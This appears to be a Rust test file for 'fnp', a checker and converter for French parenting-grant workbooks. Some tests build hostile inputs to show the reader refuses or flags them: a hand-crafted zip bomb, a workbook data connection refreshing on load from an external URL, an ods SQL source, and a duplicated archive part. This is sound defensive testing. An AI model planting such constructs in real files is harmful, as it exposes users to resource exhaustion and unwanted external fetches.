            Box::new(|mut g| {
                g[1..].reverse();
                g
            }),
        ),
        (
            "labels overwritten, keys kept",
            Box::new(|mut g| {
                for r in g.iter_mut().skip(1) {
                    r[0] = Data::String("?".into());
                }
                g
            }),
        ),
        ("key column lost", Box::new(sans_cle)),
        (
            "labels retyped, no key column",
            Box::new(move |g| {
                sans_cle(g)
                    .into_iter()
                    .map(|mut r| {
                        let t = texte(&r[0]).replace(" *", "").replace('é', "e").to_uppercase();
                        r[0] = Data::String(format!("  {t} "));
                        r
                    })
                    .collect()
            }),
        ),
        (
            "dotted keys in column A, as older workbooks",
            Box::new(|g| {
                g.into_iter()
                    .enumerate()
                    .filter_map(|(i, mut r)| {
                        let cle = r.get(3).map(texte).unwrap_or_default();
                        if i > 0 && cle.is_empty() {
                            return None; // no headings either
                        }
                        if i > 0 {
                            r[0] = Data::String(cle);
                        }
                        r.truncate(3);
                        Some(r)
                    })
                    .collect()
            }),
        ),
        (
            "a note inserted",
            Box::new(|mut g| {
                g.insert(6, vec![Data::String("Remarque du trésorier".into()), Data::String("à voir".into())]);
                g
            }),
        ),
        (
            "a note typed in column B of a row inserted (its label cell locked)",
            Box::new(|mut g| {
                g.insert(6, vec![Data::Empty, Data::String("voté en AG le 12 mars".into())]);
                g
            }),
        ),
    ];
    for (quoi, changer) in cas {
        let cible = dir.path().join("change.xlsx");
        dossier_change(&xlsx, &cible, changer);
        let lu = lecture::lire(&cible, "change.xlsx").expect("reads");
        assert_eq!(lu.dossier, attendu, "{quoi}");
        let r = verifier(&cible);
        assert_eq!(r.verdict, jumeau.verdict, "{quoi}");
        assert_eq!(r.budget, jumeau.budget, "{quoi}");
        let regles = |r: &Resultat| {
            let mut v: Vec<String> =
                r.constats.iter().map(|c| c.regle.clone()).filter(|x| x != "SAISIE-LIGNE-IGNOREE").collect();
            v.sort();
            v
        };
        assert_eq!(regles(&r), regles(&jumeau), "{quoi}");
        // Findings on a field point at its value, in column B.
        for c in &r.constats {
            if let (Some(champ), Some(cellule)) = (&c.emplacement.champ, &c.emplacement.cellule)
                && fnp::model::schema::champ(champ).is_some()
            {
                assert!(cellule.starts_with("Dossier!B"), "{quoi}: {} at {cellule}", c.regle);
            }
        }
        if quoi.starts_with("a note") {
            let note: Vec<_> = r.constats.iter().filter(|c| c.regle == "SAISIE-LIGNE-IGNOREE").collect();
            assert_eq!(note.len(), 1, "{quoi}");
            let cellule = if quoi == "a note inserted" { "Dossier!A7" } else { "Dossier!B7" };
            assert_eq!(note[0].emplacement.cellule.as_deref(), Some(cellule), "{quoi}");
        }
    }
    // A label mistyped, with no key column to tell: an error naming the label meant.
    let cible = dir.path().join("faute.xlsx");
    dossier_change(&xlsx, &cible, |g| {
        sans_cle(g)
            .into_iter()
            .map(|mut r| {
                if texte(&r[0]) == "Date de fin *" {
                    r[0] = Data::String("Date de fn".into());
                }
                r
            })
            .collect()
    });
    let lu = lecture::lire(&cible, "faute.xlsx").expect("reads");
    let faute = lu.saisies.iter().find(|s| s.regle == "SAISIE-CHAMP-INCONNU").expect("mistyped label");
    assert!(faute.message.contains("vouliez-vous dire « Date de fin » ?"), "{}", faute.message);
    assert!(!faute.message.contains("action.fin"), "no key where a workbook user reads: {}", faute.message);
}

/// Workbook → TOML → workbook, through the command line, gives back the same dossier.
#[test]
fn workbook_toml_workbook_is_lossless() {
    let dir = tempfile::tempdir().expect("tempdir");
    for exemple in ["examples/3.1-lieu-ressource.toml", "examples/2.2-telephonie-sociale.toml"] {
        let attendu = lecture::lire(Path::new(exemple), exemple).expect("example").dossier;
        let (a, t, b) = (dir.path().join("a.xlsx"), dir.path().join("a.toml"), dir.path().join("b.xlsx"));
        fnp().arg("convert").arg(exemple).arg("-o").arg(&a).arg("--force").assert().code(0);
        fnp().arg("convert").arg(&a).arg("-o").arg(&t).arg("--force").assert().code(0);
        fnp().arg("convert").arg(&t).arg("-o").arg(&b).arg("--force").assert().code(0);
        for f in [&a, &t, &b] {
            assert_eq!(lecture::lire(f, "x").expect("reads").dossier, attendu, "{exemple}: {}", f.display());
        }
        assert_eq!(grilles(&a), grilles(&b), "{exemple}: the same workbook");
    }
}

mod proprietes {
    use fnp::ecriture::modele;
    use fnp::lecture;
    use fnp::model::ecrire_toml;
    use fnp::model::schema;
    use fnp::model::{Code, Contribution, Date, Depense, Dossier, Montant, Recette, Valeur};
    use proptest::prelude::*;
    use rust_decimal::Decimal;

    fn montant() -> impl Strategy<Value = Montant> {
        (0i64..99_999_999_999).prop_map(|c| Montant::new(Decimal::new(c, 2)).expect("valid"))
    }

    fn texte() -> impl Strategy<Value = String> {
        // Printable text with accents, quotes, separators and formula-looking starts.
        "[=+@a-zA-Z0-9 éèàçÉ'\"«»;,.()€-]{1,40}"
            .prop_map(|s| s.trim().to_string())
            .prop_filter("not empty", |s| !s.is_empty())
    }

    fn code(liste: &'static [&'static str]) -> impl Strategy<Value = Code> {
        proptest::sample::select(liste).prop_map(move |v| Code::parmi(v, liste).expect("member"))
    }

    /// The bilan columns of a line: an actual amount, an explanation, either or both absent.
    fn bilan_ligne() -> impl Strategy<Value = (Option<Montant>, Option<String>)> {
        (proptest::option::of(montant()), proptest::option::of(texte()))
    }

    prop_compose! {
        fn dossier()(
            exercice in 2020i64..2035,
            nom in texte(),
            intitule in texte(),
            debut in (2024i32..2027, 1u8..13, 1u8..29),
            etp in (1i64..200),
            publics in proptest::sample::subsequence(schema::PUBLICS, 1..4),
            depenses in prop::collection::vec((code(schema::NATURES_DEPENSE), texte(), montant(), proptest::option::of(code(schema::DISPOSITIFS)), any::<bool>(), bilan_ligne()), 0..12),
            recettes in prop::collection::vec((code(schema::FINANCEURS), proptest::option::of(texte()), montant(), code(schema::STATUTS_RECETTE), bilan_ligne()), 0..8),
            contributions in prop::collection::vec((code(schema::NATURES_CONTRIBUTION), montant(), bilan_ligne()), 0..3),
            bilan in proptest::option::of((montant(), texte(), (0i64..500), (2025i32..2028, 1u8..13, 1u8..29))),
        ) -> Dossier {
            let mut d = Dossier::default();
            d.champs.insert("format", Valeur::Entier(1));
            d.champs.insert("exercice", Valeur::Entier(exercice));
            d.champs.insert("porteur.nom", Valeur::Texte(nom));
            d.champs.insert("action.intitule", Valeur::Texte(intitule));
            d.champs.insert("action.debut", Valeur::Date(Date::new(debut.0, debut.1, debut.2).expect("date")));
            d.champs.insert("lieu.etp_referent", Valeur::Decimal(Decimal::new(etp, 2).normalize()));
            d.champs.insert("action.public", Valeur::Liste(publics.iter().map(|s| s.to_string()).collect()));
            d.champs.insert("action.age_enfants", Valeur::Ages(0, 3));
            d.depenses = depenses.into_iter().enumerate().map(|(index, (nature, libelle, montant, dispositif, hausse, (realise, explication)))| Depense {
                index, nature, libelle, montant, compte: None, dispositif, hausse_temps_travail: hausse, justificatif: None, realise, explication,
            }).collect();
            d.recettes = recettes.into_iter().enumerate().map(|(index, (financeur, libelle, montant, statut, (realise, explication)))| Recette {
                index, financeur, libelle, montant, statut, dispositif: None, realise, explication,
            }).collect();
            d.contributions = contributions.into_iter().enumerate().map(|(index, (nature, montant, (realise, explication)))| Contribution {
                index, nature, libelle: None, montant, realise, explication,
            }).collect();
            // The bilan: the amount granted, a comment, an indicator reached, its date.
            if let Some((accorde, commentaire, participants, date)) = bilan {
                d.champs.insert("bilan.montant_fnp_accorde", Valeur::Decimal(accorde.valeur()));
                d.champs.insert("bilan.commentaire", Valeur::Texte(commentaire));
                d.champs.insert("bilan.date", Valeur::Date(Date::new(date.0, date.1, date.2).expect("date")));
                d.champs.insert("indicateurs_realises.participants", Valeur::Entier(participants));
                d.champs.insert("indicateurs_realises.presence_moyenne", Valeur::Decimal(Decimal::new(participants, 1).normalize()));
            }
            d
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 48, .. ProptestConfig::default() })]

        /// TOML → workbook → TOML gives back the same dossier.
        #[test]
        fn conversion_round_trips(d in dossier()) {
            let texte = ecrire_toml::ecrire(&d, "test");
            let lu = lecture::toml::lire_toml(&texte, "a.toml").expect("TOML");
            prop_assert!(lu.saisies.iter().all(|s| s.regle == "SAISIE-CHAMP-MANQUANT"), "{:?}\n{}", lu.saisies, texte);
            prop_assert_eq!(&lu.dossier, &d);
            let (octets, _) = modele::ecrire(&modele::Options { dossier: Some(&d), ..Default::default() }).expect("xlsx");
            let dir = tempfile::tempdir().expect("tempdir");
            let f = dir.path().join("d.xlsx");
            std::fs::write(&f, octets).expect("write");
            let relu = lecture::lire(&f, "d.xlsx").expect("workbook");
            prop_assert_eq!(&relu.dossier, &d);
            // The template layout read without its key column (labels only), rows reversed.
            let g: Vec<_> = super::grilles(&f)
                .into_iter()
                .map(|(nom, mut g)| {
                    if nom == "Dossier" {
                        g = g.into_iter().map(|r| r.into_iter().take(3).collect()).collect();
                        g[1..].reverse();
                    }
                    (nom, g)
                })
                .collect();
            let f2 = dir.path().join("libelles.xlsx");
            super::ecrire_grilles(&f2, &g);
            let relu2 = lecture::lire(&f2, "libelles.xlsx").expect("workbook");
            prop_assert_eq!(&relu2.dossier, &d);
            // And back: workbook → TOML → workbook.
            let texte = ecrire_toml::ecrire(&relu.dossier, "d.xlsx");
            let retour = lecture::toml::lire_toml(&texte, "retour.toml").expect("TOML");
            let (octets, _) = modele::ecrire(&modele::Options { dossier: Some(&retour.dossier), ..Default::default() }).expect("xlsx");
            let f3 = dir.path().join("retour.xlsx");
            std::fs::write(&f3, octets).expect("write");
            prop_assert_eq!(&lecture::lire(&f3, "retour.xlsx").expect("workbook").dossier, &d);
        }
    }
}

/// A zip archive whose central directory declares a 4 GB part: refused from the directory,
/// before anything is inflated.
#[test]
fn a_zip_bomb_is_refused_before_inflating() {
    fn u16le(v: u16) -> [u8; 2] {
        v.to_le_bytes()
    }
    fn u32le(v: u32) -> [u8; 4] {
        v.to_le_bytes()
    }
    let nom = b"xl/worksheets/sheet1.xml";
    let donnees = b"x";
    let mut z = Vec::new();
    // local file header
    z.extend(u32le(0x0403_4b50));
    z.extend(u16le(20));
    z.extend(u16le(0));
    z.extend(u16le(8)); // deflate
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u32le(0));
    z.extend(u32le(donnees.len() as u32));
    z.extend(u32le(0xFFFF_FFF0)); // declared uncompressed size
    z.extend(u16le(nom.len() as u16));
    z.extend(u16le(0));
    z.extend(nom);
    z.extend(donnees);
    let debut_central = z.len() as u32;
    z.extend(u32le(0x0201_4b50));
    z.extend(u16le(20));
    z.extend(u16le(20));
    z.extend(u16le(0));
    z.extend(u16le(8));
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u32le(0));
    z.extend(u32le(donnees.len() as u32));
    z.extend(u32le(0xFFFF_FFF0));
    z.extend(u16le(nom.len() as u16));
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u32le(0));
    z.extend(u32le(0));
    z.extend(nom);
    let taille_central = z.len() as u32 - debut_central;
    z.extend(u32le(0x0605_4b50));
    z.extend(u16le(0));
    z.extend(u16le(0));
    z.extend(u16le(1));
    z.extend(u16le(1));
    z.extend(u32le(taille_central));
    z.extend(u32le(debut_central));
    z.extend(u16le(0));
    let dir = tempfile::tempdir().expect("tempdir");
    let f = dir.path().join("bombe.xlsx");
    std::fs::write(&f, z).expect("write");
    let e = lecture::lire(&f, "bombe.xlsx").expect_err("refused");
    assert!(e.message.contains("bombe zip") || e.message.contains("déplieraient"), "{}", e.message);
}

/// Blank cells styled down to row 1 000 000 cost nothing and are not rows of data.
#[test]
fn styled_blank_rows_cost_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let lu = lecture::lire(Path::new("examples/1.2-atelier-parents-enfants.toml"), "x").expect("example");
    let (octets, _) =
        modele::ecrire(&modele::Options { dossier: Some(&lu.dossier), ..Default::default() }).expect("xlsx");
    let base = dir.path().join("base.xlsx");
    std::fs::write(&base, octets).expect("write");
    // Rebuild the same dossier with a styled blank cell at the bottom of the expenses sheet.
    let mut wb = Workbook::new();
    let gris = Format::new().set_background_color(rust_xlsxwriter::Color::Gray);
    let f = wb.add_worksheet().set_name("Dossier").expect("name");
    f.write_string(0, 0, "Champ").expect("w");
    f.write_string(0, 1, "Valeur").expect("w");
    for (i, (k, v)) in (1u32..).zip(lu.dossier.champs.iter()) {
        f.write_string(i, 0, *k).expect("w");
        let texte = match v {
            fnp::model::Valeur::Date(d) => d.to_string(),
            fnp::model::Valeur::Liste(l) => l.join(", "),
            fnp::model::Valeur::Ages(a, b) => format!("{a}-{b}"),
            fnp::model::Valeur::Booleen(b) => {
                if *b {
                    "oui".into()
                } else {
                    "non".into()
                }
            }
            autre => autre.fr(),
        };
        f.write_string(i, 1, texte).expect("w");
    }
    let f = wb.add_worksheet().set_name("Dépenses").expect("name");
    f.write_string(0, 0, "Nature").expect("w");
    f.write_string(0, 1, "Libellé").expect("w");
    f.write_string(0, 2, "Montant").expect("w");
    for (j, d) in lu.dossier.depenses.iter().enumerate() {
        f.write_string(j as u32 + 1, 0, d.nature.as_str()).expect("w");
        f.write_string(j as u32 + 1, 1, &d.libelle).expect("w");
        f.write_string(j as u32 + 1, 2, d.montant.brut()).expect("w");
    }
    f.write_blank(999_999, 0, &gris).expect("w");
    f.write_blank(999_999, 2, &gris).expect("w");
    let style = dir.path().join("style.xlsx");
    wb.save(&style).expect("save");
    let r = lecture::lire(&style, "style.xlsx").expect("reads");
    assert_eq!(r.dossier.depenses.len(), lu.dossier.depenses.len());
    // With a low row limit it is still accepted: blank rows are not data.
    let limites = lecture::limites::Limites { lignes_max: 100, ..Default::default() };
    assert!(lecture::lire_avec(&style, "style.xlsx", &limites).is_ok());
}

/// Workbooks saved by LibreOffice (xlsx, xls, ods) read like their TOML twins.
#[test]
fn workbooks_saved_by_libreoffice_agree_with_their_twins() {
    for (classeur, jumeau) in [
        ("tests/fixtures/classeurs/cafe-libreoffice.xlsx", "tests/fixtures/cafe.toml"),
        ("tests/fixtures/classeurs/cafe-libreoffice.xls", "tests/fixtures/cafe.toml"),
        ("tests/fixtures/classeurs/lieu-libreoffice.ods", "examples/3.1-lieu-ressource.toml"),
    ] {
        let (a, b) = (verifier(Path::new(classeur)), verifier(Path::new(jumeau)));
        assert_eq!(essentiel(&a), essentiel(&b), "{classeur}");
        assert_eq!(a.budget, b.budget, "{classeur}");
        assert!(a.constats.iter().all(|c| c.emplacement.cellule.is_some()), "{classeur}: every finding at its cell");
    }
}

#[test]
fn an_encrypted_workbook_says_so() {
    let r = verifier(Path::new("tests/fixtures/classeurs/verrouille.xlsx"));
    assert_eq!(r.verdict, fnp::check::Verdict::Illisible);
    assert!(r.constats[0].message.contains("mot de passe"), "{}", r.constats[0].message);
}

/// The template works as sent: `format` filled, and with `--type` the axe, volet and type;
/// never xlsx bytes under an .ods name.
#[test]
fn the_template_is_filled_as_sent() {
    let dir = tempfile::tempdir().expect("tempdir");
    let modele = dir.path().join("modele.xlsx");
    let o = fnp().args(["template", "--type", "lieu-ressource", "-o"]).arg(&modele).output().expect("runs");
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let lu = lecture::lire(&modele, "modele.xlsx").expect("reads");
    assert_eq!(lu.dossier.entier("format"), Some(1));
    assert_eq!((lu.dossier.axe(), lu.dossier.volet()), (Some(3), Some(1)));
    // The type as its drop-down shows it, which fnp reads as the type's code.
    assert_eq!(lu.dossier.type_action(), Some("lieu ressource parentalité"));
    // Only that action's sections: [lieu] rows, no [groupe] or [telephonie] rows.
    let (v, _) = {
        let o = fnp().args(["check", "--format", "json"]).arg(&modele).output().expect("runs");
        (serde_json::from_slice::<Value>(&o.stdout).expect("JSON"), ())
    };
    assert_eq!(v["dossiers"][0]["type"], "lieu-ressource");
    let constats = v["dossiers"][0]["constats"].to_string();
    assert!(!constats.contains("action.axe") && !constats.contains("« format »"), "{constats}");
    assert!(!constats.contains("GEN-TYPE-ACTION"), "{constats}");
    let ods = dir.path().join("modele.ods");
    let o = fnp().args(["template", "-o"]).arg(&ods).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    // What to do instead: write the .xlsx, then save it as .ods with LibreOffice.
    let erreur = String::from_utf8_lossy(&o.stderr);
    assert!(erreur.contains("écrit un classeur .xlsx, pas .ods"), "{erreur}");
    assert!(erreur.contains(&format!("-o {}", ods.with_extension("xlsx").display())), "{erreur}");
    assert!(erreur.contains("LibreOffice") && erreur.contains("--convert-to ods"), "{erreur}");
    assert!(!ods.exists());
    let o = fnp().args(["convert", "examples/1.1-conference.toml", "-o"]).arg(&ods).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("fnp convert écrit un classeur .xlsx, pas .ods"));
    assert!(!ods.exists());
}

/// `fnp template --axe A --volet V` keeps that volet's rows and pre-fills axe and volet; an
/// unknown volet, or a type of another volet, is refused with what exists.
#[test]
fn template_for_an_axe_and_volet() {
    let dir = tempfile::tempdir().expect("tempdir");
    let modele = dir.path().join("lieux.xlsx");
    fnp().args(["template", "--axe", "3", "--volet", "1", "-o"]).arg(&modele).assert().code(0);
    let lu = lecture::lire(&modele, "lieux.xlsx").expect("reads");
    assert_eq!(lu.dossier.axe(), Some(3));
    assert_eq!(lu.dossier.volet(), Some(1));
    use calamine::Reader;
    let mut wb = calamine::open_workbook_auto(&modele).expect("open");
    let feuille = wb.worksheet_range("Dossier").expect("sheet");
    let cles: Vec<String> = feuille.rows().filter_map(|r| r.get(3).map(|c| c.to_string())).collect();
    assert!(cles.iter().any(|c| c.starts_with("lieu.")), "the lieu rows are there: {cles:?}");
    assert!(!cles.iter().any(|c| c.starts_with("groupe.")), "no group rows in 3.1: {cles:?}");
    let o = fnp()
        .args(["template", "--axe", "3", "--volet", "9", "-o"])
        .arg(dir.path().join("x.xlsx"))
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("1.1, 1.2, 2.1"), "{}", String::from_utf8_lossy(&o.stderr));
    let o = fnp()
        .args(["template", "--axe", "3", "--volet", "1", "--type", "cafe-des-parents", "-o"])
        .arg(dir.path().join("y.xlsx"))
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("relève du volet 1.1"));
}

/// A copy of the zip archive `source` with `ajouts` appended and every part passed through
/// `changer` (name, bytes): parts stored, in the archive's order.
fn archive_changee(source: &Path, ajouts: &[(&str, &[u8])], changer: impl Fn(&str, Vec<u8>) -> Vec<u8>) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut entree = zip::ZipArchive::new(std::fs::File::open(source).expect("open")).expect("zip");
    let mut sortie = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..entree.len() {
        let mut partie = entree.by_index(i).expect("part");
        let nom = partie.name().expect("name").to_string();
        let mut octets = Vec::new();
        partie.read_to_end(&mut octets).expect("read");
        sortie.start_file(nom.as_str(), options).expect("start");
        sortie.write_all(&changer(&nom, octets)).expect("write");
    }
    for (nom, octets) in ajouts {
        sortie.start_file(*nom, options).expect("start");
        sortie.write_all(octets).expect("write");
    }
    sortie.finish().expect("finish").into_inner()
}

/// The findings of `CLASSEUR-LIENS-EXTERNES` of a workbook written from `octets`.
fn liens_externes(dir: &Path, nom: &str, octets: &[u8]) -> Vec<String> {
    let f = dir.join(nom);
    std::fs::write(&f, octets).expect("write");
    let r = verifier(&f);
    assert_ne!(r.verdict.as_str(), "illisible", "{:?}", essentiel(&r));
    r.constats.iter().filter(|c| c.regle == "CLASSEUR-LIENS-EXTERNES").map(|c| c.message.clone()).collect()
}

/// Data connections (an xlsx `xl/connections.xml`, a query table refreshed on opening, an ods
/// database range fed by SQL) are never refreshed by fnp and are named to the instructor as
/// `CLASSEUR-LIENS-EXTERNES`, saying « connexion à des données externes »; the same
/// workbooks without them raise nothing.
#[test]
fn data_connections_are_named_and_never_refreshed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let xlsx = Path::new("tests/cases/CLASSEUR-LIENS-EXTERNES/ne-declenche-pas/sans-liaison.xlsx");
    let meme = |_: &str, o: Vec<u8>| o;
    assert!(liens_externes(dir.path(), "sans.xlsx", &archive_changee(xlsx, &[], meme)).is_empty());
    let connexion = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="Requete" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="https://exemple.invalid/montants.html"/></connection></connections>"#;
    let requete = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="Requete" connectionId="1" autoFormatId="16" applyNumberFormats="0"/>"#;
    for (nom, ajouts) in [
        ("connexion.xlsx", vec![("xl/connections.xml", &connexion[..])]),
        ("requete.xlsx", vec![("xl/queryTables/queryTable1.xml", &requete[..])]),
    ] {
        let messages = liens_externes(dir.path(), nom, &archive_changee(xlsx, &ajouts, meme));
        assert_eq!(messages.len(), 1, "{nom}: {messages:?}");
        assert!(messages[0].contains("connexion à des données externes"), "{nom}: {}", messages[0]);
    }
    let ods = Path::new("tests/cases/CLASSEUR-MACROS/ne-declenche-pas/sans-macros-libreoffice.ods");
    assert!(liens_externes(dir.path(), "sans.ods", &archive_changee(ods, &[], meme)).is_empty());
    let source_sql = |nom: &str, o: Vec<u8>| {
        if nom != "content.xml" {
            return o;
        }
        let texte = String::from_utf8(o).expect("utf-8");
        assert!(texte.contains("</office:spreadsheet>"), "content.xml");
        texte
            .replace(
                "</office:spreadsheet>",
                "<table:database-ranges><table:database-range table:name=\"Externe\" table:target-range-address=\"Dossier.A1:B2\"><table:database-source-sql table:database-name=\"compta\" table:sql-statement=\"SELECT montant FROM depenses\"/></table:database-range></table:database-ranges></office:spreadsheet>",
            )
            .into_bytes()
    };
    let messages = liens_externes(dir.path(), "source.ods", &archive_changee(ods, &[], source_sql));
    assert_eq!(messages.len(), 1, "{messages:?}");
    assert!(messages[0].contains("connexion à des données externes"), "{}", messages[0]);
}

/// A zip archive holding the same part twice (forbidden by OPC: tools disagree on which copy
/// they show) is `illisible`, naming the part in French. The zip library refuses to write two
/// parts of one name: the second part is written under a name of the same length, then its
/// name is patched in the bytes.
#[test]
fn a_workbook_holding_a_part_twice_is_illisible() {
    let dir = tempfile::tempdir().expect("tempdir");
    let xlsx = Path::new("tests/cases/CLASSEUR-LIENS-EXTERNES/ne-declenche-pas/sans-liaison.xlsx");
    let mut entree = zip::ZipArchive::new(std::fs::File::open(xlsx).expect("open")).expect("zip");
    let feuille = {
        use std::io::Read;
        let mut f = entree.by_name("xl/worksheets/sheet1.xml").expect("sheet1");
        let mut o = Vec::new();
        f.read_to_end(&mut o).expect("read");
        o
    };
    let faux = b"xl/worksheets/sheetZ.xml";
    let double = |vrai: &[u8]| {
        let mut octets = archive_changee(xlsx, &[("xl/worksheets/sheetZ.xml", &feuille)], |_, o| o);
        let mut remplacees = 0;
        for i in 0..octets.len() - faux.len() {
            if &octets[i..i + faux.len()] == faux {
                octets[i..i + faux.len()].copy_from_slice(vrai);
                remplacees += 1;
            }
        }
        assert_eq!(remplacees, 2, "local header and central directory");
        octets
    };
    let f = dir.path().join("double.xlsx");
    std::fs::write(&f, double(b"xl/worksheets/sheet1.xml")).expect("write");
    let e = lecture::lire(&f, "double.xlsx").expect_err("refused");
    assert!(
        e.message.contains("le classeur contient deux fois la partie « xl/worksheets/sheet1.xml » : "),
        "{}",
        e.message
    );
    // OPC part names compare ignoring ASCII case: the second copy is named as written.
    std::fs::write(&f, double(b"xl/Worksheets/Sheet1.xml")).expect("write");
    let e = lecture::lire(&f, "double.xlsx").expect_err("refused");
    assert!(e.message.contains("deux fois la partie « xl/Worksheets/Sheet1.xml »"), "{}", e.message);
    // Through the command: one illisible dossier, exit 2.
    let o = fnp().arg("check").arg(&f).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    // The same archive with two names is read.
    let f = dir.path().join("deux.xlsx");
    std::fs::write(&f, archive_changee(xlsx, &[("xl/worksheets/sheetZ.xml", &feuille)], |_, o| o)).expect("write");
    assert!(lecture::lire(&f, "deux.xlsx").is_ok());
}

/// Each finding at the place to act (issue "in the words of the person who reads it"): a
/// missing indicator at the value cell of its own row, not at the section's first label; a
/// request to the FNP missing from the recettes at the first empty row of Recettes, where the
/// line is to be added.
#[test]
fn findings_point_at_the_cell_to_fill() {
    use calamine::Data;
    let dir = tempfile::tempdir().expect("tempdir");
    let base = dir.path().join("base.xlsx");
    fnp().args(["convert", "examples/1.1-cafe-des-parents.toml", "-o"]).arg(&base).assert().success();
    let mut ligne_qpv = None;
    let mut lignes_recettes = 0;
    let feuilles: Vec<_> = grilles(&base)
        .into_iter()
        .map(|(nom, mut g)| {
            if nom == "Dossier" {
                for (i, r) in g.iter_mut().enumerate() {
                    if r.iter().any(|c| texte(c) == "indicateurs.parents_qpv") {
                        r[1] = Data::Empty;
                        ligne_qpv = Some(i + 1);
                    }
                }
            }
            if nom == "Recettes" {
                g.retain(|r| !r.iter().any(|c| texte(c) == "caf-fnp"));
                lignes_recettes = g.iter().filter(|r| r.iter().any(|c| !texte(c).is_empty())).count();
            }
            (nom, g)
        })
        .collect();
    let classeur = dir.path().join("a-completer.xlsx");
    ecrire_grilles(&classeur, &feuilles);
    let o = fnp().args(["check", "--format", "json"]).arg(&classeur).output().expect("runs");
    let v: Value = serde_json::from_slice(&o.stdout).expect("json");
    let cellule = |regle: &str| {
        v["dossiers"][0]["constats"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|c| c["regle"] == regle)
            .map(|c| c["emplacement"]["cellule"].as_str().unwrap_or_default().to_string())
            .unwrap_or_else(|| panic!("{regle} absent: {v:#}"))
    };
    assert_eq!(cellule("L69-INDICATEUR-QPV"), format!("Dossier!B{}", ligne_qpv.expect("row")));
    assert_eq!(cellule("GEN-DEMANDE-ABSENTE"), format!("Recettes!A{}", lignes_recettes + 1));
}

/// The template offers drop-down lists for the axe, the volet and the type of action (the
/// types of the packs in French words, in a hidden column since they are too many for a list
/// written inline), and such a list does not change what the workbook reads as.
#[test]
fn the_template_offers_the_type_axe_and_volet_in_lists() {
    use std::io::Read;
    let dir = tempfile::tempdir().expect("tempdir");
    let modele = dir.path().join("modele.xlsx");
    fnp().args(["template", "-o"]).arg(&modele).assert().success();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&modele).expect("open")).expect("zip");
    let mut feuille = String::new();
    zip.by_name("xl/worksheets/sheet1.xml").expect("Dossier").read_to_string(&mut feuille).expect("read");
    assert!(feuille.contains("<formula1>\"1,2,3,4\"</formula1>"), "axe");
    assert!(feuille.contains("<formula1>\"1,2\"</formula1>"), "volet");
    let types = regles().national().volets.values().map(|v| v.types.len()).sum::<usize>();
    assert!(feuille.contains(&format!("<formula1>$E$2:$E${}</formula1>", types + 1)), "type");
    let g = grilles(&modele);
    let dossier = &g.iter().find(|(n, _)| n == "Dossier").expect("Dossier").1;
    // In French words, which fnp reads as the type's code.
    assert_eq!(texte(&dossier[1][4]), "café des parents");
    // Offered, never imposed: another writing gets an information, not a refusal.
    assert!(
        !feuille.contains("errorStyle=\"stop\"") && feuille.contains("errorStyle=\"information\""),
        "lists offered"
    );
    // Read back blank, as before: the list column is no field.
    let lu = lecture::lire(&modele, "modele.xlsx").expect("reads");
    assert!(!lu.saisies.iter().any(|s| s.regle == "SAISIE-LIGNE-IGNOREE" || s.regle == "SAISIE-CHAMP-INCONNU"));
}

/// A typed template says what the rules in force for its type require: an atelier
/// parents-enfants marks « * » the four rows whose « oui » a rule demands (each gave an error
/// to a treasurer who left it blank), the rule named in the help; the generic template
/// marks no row for a type.
#[test]
fn a_typed_template_marks_what_its_rules_require() {
    let dir = tempfile::tempdir().expect("tempdir");
    let lignes = |args: &[&str]| -> Vec<(String, String)> {
        let modele = dir.path().join("m.xlsx");
        fnp().arg("template").args(args).arg("-o").arg(&modele).arg("--force").assert().success();
        let g = grilles(&modele);
        let dossier = &g.iter().find(|(n, _)| n == "Dossier").expect("Dossier").1;
        dossier
            .iter()
            .map(|r| (r.first().map(texte).unwrap_or_default(), r.get(2).map(texte).unwrap_or_default()))
            .collect()
    };
    let atelier = lignes(&["--type", "atelier-parents-enfants"]);
    let oui: Vec<&(String, String)> = atelier.iter().filter(|(_, aide)| aide.contains("répondez « oui »")).collect();
    assert_eq!(oui.len(), 4, "{oui:#?}");
    for (libelle, aide) in &oui {
        assert!(libelle.ends_with(" *"), "{libelle}");
        assert!(aide.starts_with("Obligatoire pour ce type d'action") && aide.contains("(règle « "), "{aide}");
    }
    assert!(oui.iter().any(|(l, _)| l.starts_with("Intervenants qualifiés")), "{oui:?}");
    assert!(!lignes(&[]).iter().any(|(_, aide)| aide.contains("pour ce type d'action")));
}

/// A typed template offers only the rows a rule in force for its volet may ask for, any
/// Caf's local packs included, and those every dossier has: a café des parents keeps
/// « Parents résidant en QPV » (the Rhône asks for it), not the phone line's « Appels
/// orientés », the lieu's « Familles accueillies » nor the temps fort's « démarche globale ».
#[test]
fn a_typed_template_offers_only_the_indicators_its_rules_may_ask_for() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cles = |type_action: &str| -> Vec<String> {
        let modele = dir.path().join(format!("{type_action}.xlsx"));
        fnp().args(["template", "--type", type_action, "-o"]).arg(&modele).assert().success();
        let g = grilles(&modele);
        let dossier = &g.iter().find(|(n, _)| n == "Dossier").expect("Dossier").1;
        dossier.iter().filter_map(|r| r.get(3).map(texte)).filter(|c| !c.is_empty()).collect()
    };
